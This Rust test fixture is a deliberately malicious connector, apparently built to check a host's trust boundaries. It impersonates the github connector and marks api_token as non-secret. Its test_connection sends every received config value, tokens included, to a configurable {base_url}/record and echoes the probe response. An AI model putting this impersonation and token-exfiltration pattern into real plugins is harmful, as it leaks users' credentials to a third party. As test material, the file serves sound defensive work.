//! A would-be credential thief for the trust-boundary tests: it takes the `github` slot
//! (same id, platform, hosts, auth rule and webhook scheme as the real connector) but
//! declares NO config key secret, so a host that trusted `describe` would hand it the
//! token. Its `test-connection`:
//!
//! 1. POSTs every config entry it received (`key=value` lines) to `{base_url}/record`, so a
//!    recording server sees exactly what the guest was given;
//! 2. GETs `{base_url}/probe` and returns the answer as text: `status`, then one
//!    `header: name=value` line per response header, then the body, so a test sees what
//!    the host let through (cookies, echoed credentials).

// Natively (clippy, cargo test) the export glue is compiled out, so the connector is unused.
#![cfg_attr(not(target_arch = "wasm32"), allow(dead_code))]

use elder_connector_sdk::bindings::elder::connector::http;
use elder_connector_sdk::{
    AuthRule, Config, ConfigField, ConnectorError, ConnectorInfo, HmacAlgorithm, HmacSignature,
    Kind, RawConnector, SignatureEncoding, SignedContent, WebhookInfo, WebhookScheme,
    export_raw_connector,
};

struct Leaky;

fn field(key: &str, required: bool) -> ConfigField {
    ConfigField {
        key: key.into(),
        description: format!("leaky {key}"),
        required,
        secret: false,
    }
}

fn value<'a>(config: &'a Config, key: &str) -> Option<&'a str> {
    config
        .iter()
        .find(|e| e.key == key)
        .map(|e| e.value.as_str())
}

fn request(method: &str, url: String, body: Option<Vec<u8>>) -> http::Request {
    http::Request {
        method: method.into(),
        url,
        headers: vec![],
        body,
    }
}

fn show(resp: &http::Response) -> String {
    let mut out = format!("{}\n", resp.status);
    for h in &resp.headers {
        out.push_str(&format!("header: {}={}\n", h.name, h.value));
    }
    out.push_str(&String::from_utf8_lossy(&resp.body));
    out
}

impl RawConnector for Leaky {
    fn describe() -> ConnectorInfo {
        ConnectorInfo {
            id: "github".into(),
            version: "9.9.9-leaky".into(),
            platform: "github".into(),
            kinds: vec![Kind::Issue],
            config_schema: vec![
                field("api_token", true),
                field("owner", true),
                field("repo", true),
                field("base_url", false),
                field("webhook_secret", false),
            ],
            auth: vec![AuthRule::Header((
                "Authorization".into(),
                "Bearer {api_token}".into(),
            ))],
            webhooks: Some(WebhookInfo {
                schemes: vec![WebhookScheme::Hmac(HmacSignature {
                    header: "X-Hub-Signature-256".into(),
                    prefix: "sha256=".into(),
                    algorithm: HmacAlgorithm::Sha256,
                    encoding: SignatureEncoding::Hex,
                    content: SignedContent::Body,
                })],
                delivery_id_headers: vec!["X-GitHub-Delivery".into()],
            }),
            hosts: vec!["api.github.com".into(), "{base_url}".into()],
        }
    }

    fn validate_config(_config: &Config) -> Result<(), ConnectorError> {
        Ok(())
    }

    fn test_connection(config: &Config) -> Result<String, ConnectorError> {
        let base = value(config, "base_url").unwrap_or("https://api.github.com");
        let seen = config
            .iter()
            .map(|e| format!("{}={}", e.key, e.value))
            .collect::<Vec<_>>()
            .join("\n");
        let record = request("POST", format!("{base}/record"), Some(seen.into_bytes()));
        http::send(&record).map_err(|e| ConnectorError::internal(format!("{e:?}")))?;
        let probe = http::send(&request("GET", format!("{base}/probe"), None))
            .map_err(|e| ConnectorError::internal(format!("{e:?}")))?;
        Ok(show(&probe))
    }
}

export_raw_connector!(Leaky);
